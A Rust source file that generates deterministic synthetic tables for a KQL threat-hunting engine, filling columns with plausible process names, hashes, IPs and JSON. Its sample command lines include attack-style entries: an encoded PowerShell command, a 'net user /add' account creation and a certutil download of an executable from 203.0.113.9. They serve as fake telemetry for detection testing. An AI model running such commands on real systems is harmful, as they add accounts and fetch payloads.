//! Small tables of advanced hunting with believable values: the same ones each time.

use std::sync::Arc;

use anyhow::Result;
use arrow::array::{
    ArrayRef, BooleanArray, FixedSizeBinaryArray, Float64Array, Int32Array, Int64Array, RecordBatch,
    StringViewArray,
};
use arrow::datatypes::{Field, Schema as ArrowSchema};
use async_trait::async_trait;
use datafusion::catalog::TableProvider;
use wardenry_kql_engine::{External, ExternalError, ExternalRequest, MemoryTables, Tables};
use wardenry_kql_functions::layout;
use wardenry_kql_semantics::Schema;
use wardenry_kql_semantics::hunting::HuntingSchema;
use wardenry_kql_values::{ScalarType, TICKS_PER_SECOND};

/// The instant at which the queries run: 2026-07-01T12:00:00Z, in ticks since 0001-01-01.
pub(crate) const NOW: i64 = 639_185_040_000_000_000;

/// The tables of advanced hunting, and no others.
pub(crate) struct GeneratedTables {
    tables: MemoryTables,
}

impl GeneratedTables {
    pub(crate) fn new(rows: usize) -> Result<Self> {
        let mut tables = MemoryTables::new();
        for (number, name) in HuntingSchema.table_names().iter().enumerate() {
            let Some(columns) = HuntingSchema.table(name) else { continue };
            insert(&mut tables, name, &columns, rows, number)?;
        }
        Ok(Self { tables })
    }
}

fn insert(
    tables: &mut MemoryTables,
    name: &str,
    columns: &[(Arc<str>, ScalarType)],
    rows: usize,
    number: usize,
) -> Result<()> {
    let mut fields = Vec::with_capacity(columns.len());
    let mut arrays = Vec::with_capacity(columns.len());
    for (column, scalar_type) in columns {
        fields.push(Field::new(column.to_string(), layout::arrow_type(*scalar_type), true));
        arrays.push(values(column, *scalar_type, rows, number));
    }
    let batch = RecordBatch::try_new(Arc::new(ArrowSchema::new(fields)), arrays)?;
    let columns: Vec<(&str, ScalarType)> =
        columns.iter().map(|(name, scalar_type)| (&**name, *scalar_type)).collect();
    Ok(tables.insert(name, &columns, vec![batch])?)
}

/// What an operator who allows every address of the queries would see: for each a few generated rows. Nothing is fetched.
#[derive(Clone, Copy, Debug)]
pub(crate) struct GeneratedExternal;

#[async_trait]
impl External for GeneratedExternal {
    async fn read(&self, request: &ExternalRequest) -> Result<Arc<dyn TableProvider>, ExternalError> {
        let mut tables = MemoryTables::new();
        let uri = request.uris.first().cloned().unwrap_or_default();
        let failed =
            |source: anyhow::Error| ExternalError::Failed { uri: uri.clone(), source: source.into() };
        insert(&mut tables, "external", &request.columns, 20, 3).map_err(failed)?;
        tables.provider("external").ok_or_else(|| failed(anyhow::anyhow!("the table is not there")))
    }
}

impl Schema for GeneratedTables {
    fn table(&self, name: &str) -> Option<Arc<[(Arc<str>, ScalarType)]>> {
        self.tables.table(name)
    }

    fn table_names(&self) -> Vec<Arc<str>> {
        self.tables.table_names()
    }
}

impl Tables for GeneratedTables {
    fn provider(&self, name: &str) -> Option<Arc<dyn TableProvider>> {
        self.tables.provider(name)
    }
}

/// The values of a column. Keys have few values, so that joins find partners; one in seventeen is missing.
fn values(column: &str, scalar_type: ScalarType, rows: usize, table: usize) -> ArrayRef {
    let seed = column.bytes().fold(17, |seed: usize, byte| seed.wrapping_mul(31).wrapping_add(byte.into()));
    // Keys agree from table to table, other columns do not.
    let key = column.ends_with("Id") || column.ends_with("Name") || column.contains("SHA");
    let roll = |row: usize| {
        let table = if key { 0 } else { table };
        row.wrapping_add(table * 101).wrapping_mul(2_654_435_761).wrapping_add(seed) >> 7
    };
    let missing = |row: usize| (row + seed).is_multiple_of(17) && column != "Timestamp";
    let some = |row: usize| (!missing(row)).then(|| roll(row));
    let long = |row: usize| some(row).map(|roll| i64::try_from(roll % 5_000).unwrap_or(0));
    match scalar_type {
        ScalarType::Bool => {
            Arc::new((0..rows).map(|row| some(row).map(|roll| roll % 2 == 0)).collect::<BooleanArray>())
        }
        ScalarType::Int => Arc::new(
            (0..rows)
                .map(|row| long(row).and_then(|value| i32::try_from(value).ok()))
                .collect::<Int32Array>(),
        ),
        ScalarType::Long => Arc::new((0..rows).map(long).collect::<Int64Array>()),
        ScalarType::Timespan => Arc::new(
            (0..rows).map(|row| long(row).map(|value| value * TICKS_PER_SECOND)).collect::<Int64Array>(),
        ),
        ScalarType::Datetime => {
            // The last four weeks.
            let ago = |row: usize| i64::try_from(roll(row) % (28 * 86_400)).unwrap_or(0) * TICKS_PER_SECOND;
            Arc::new((0..rows).map(|row| (!missing(row)).then(|| NOW - ago(row))).collect::<Int64Array>())
        }
        ScalarType::Real | ScalarType::Decimal => Arc::new(
            (0..rows)
                .map(|row| long(row).and_then(|value| i32::try_from(value).ok()).map(f64::from))
                .collect::<Float64Array>(),
        ),
        ScalarType::Guid => {
            let bytes =
                (0..rows).map(|row| some(row).map(|roll| u128::try_from(roll).unwrap_or(0).to_be_bytes()));
            let guids = FixedSizeBinaryArray::try_from_sparse_iter_with_size(bytes, 16);
            Arc::new(guids.expect("each value has 16 bytes"))
        }
        ScalarType::Dynamic => Arc::new(
            (0..rows).map(|row| some(row).map(|roll| bag(column, roll))).collect::<StringViewArray>(),
        ),
        ScalarType::String => Arc::new(
            (0..rows)
                .map(|row| Some(some(row).map_or_else(String::new, |roll| text(column, roll))))
                .collect::<StringViewArray>(),
        ),
    }
}

/// Text of the kind that the column's name promises.
fn text(column: &str, roll: usize) -> String {
    const FILES: [&str; 8] = [
        "powershell.exe",
        "cmd.exe",
        "winword.exe",
        "rundll32.exe",
        "svchost.exe",
        "mshta.exe",
        "chrome.exe",
        "certutil.exe",
    ];
    const LINES: [&str; 5] = [
        "powershell.exe -NoProfile -EncodedCommand SQBFAFgA",
        "cmd.exe /c \"net user /add test\"",
        "rundll32.exe shell32.dll,Control_RunDLL",
        "certutil -urlcache -split -f http://203.0.113.9/a.exe",
        "\"C:\\Program Files\\App\\app.exe\" --run",
    ];
    const ACTIONS: [&str; 6] = [
        "ProcessCreated",
        "ConnectionSuccess",
        "LogonFailed",
        "FileCreated",
        "AntivirusDetection",
        "RegistryValueSet",
    ];
    let of = |values: &[&str]| values[roll % values.len()].to_owned();
    match column {
        _ if column.contains("CommandLine") => of(&LINES),
        _ if column.contains("FileName") => of(&FILES),
        _ if column.contains("FolderPath") => format!("C:\\Users\\user{}\\AppData\\{}", roll % 7, of(&FILES)),
        _ if column.contains("SHA256") => format!("{:064x}", roll % 50),
        _ if column.contains("SHA1") => format!("{:040x}", roll % 50),
        _ if column.contains("MD5") => format!("{:032x}", roll % 50),
        _ if column.contains("IP") && !column.contains("Type") => format!("10.{}.{}.7", roll % 4, roll % 9),
        _ if column.contains("Url") => format!("https://host{}.example.com/path?x={}", roll % 9, roll % 5),
        "ActionType" => of(&ACTIONS),
        _ if column.contains("Fields")
            || column.contains("Data")
            || column.contains("Users")
            || column.contains("Json") =>
        {
            bag(column, roll)
        }
        "DeviceName" => format!("pc-{}.corp.example", roll % 20),
        _ if column.contains("Address") => format!("user{}@corp.example", roll % 20),
        "Subject" => format!("Invoice {}", roll % 30),
        _ => format!("{column}-{}", roll % 20),
    }
}

/// A JSON text with members that queries look for.
fn bag(column: &str, roll: usize) -> String {
    if column.contains("Users") {
        return format!("[{{\"UserName\":\"user{}\",\"DomainName\":\"corp\"}}]", roll % 20);
    }
    if column.contains("IPAddresses") || column.contains("Networks") || column.contains("Tags") {
        return format!("[{{\"IPAddress\":\"10.0.0.{}\",\"Name\":\"n{}\"}},\"tag\"]", roll % 9, roll % 3);
    }
    format!(
        "{{\"Operation\":\"op{}\",\"Name\":\"n{}\",\"Value\":{},\"UserId\":\"user{}\",\"ClientIP\":\"10.0.0.{}\",\"Parameters\":[{{\"Name\":\"a\",\"Value\":\"b\"}}],\
         \"IsAudit\":{}}}",
        roll % 5,
        roll % 7,
        roll % 100,
        roll % 20,
        roll % 9,
        roll.is_multiple_of(2)
    )
}
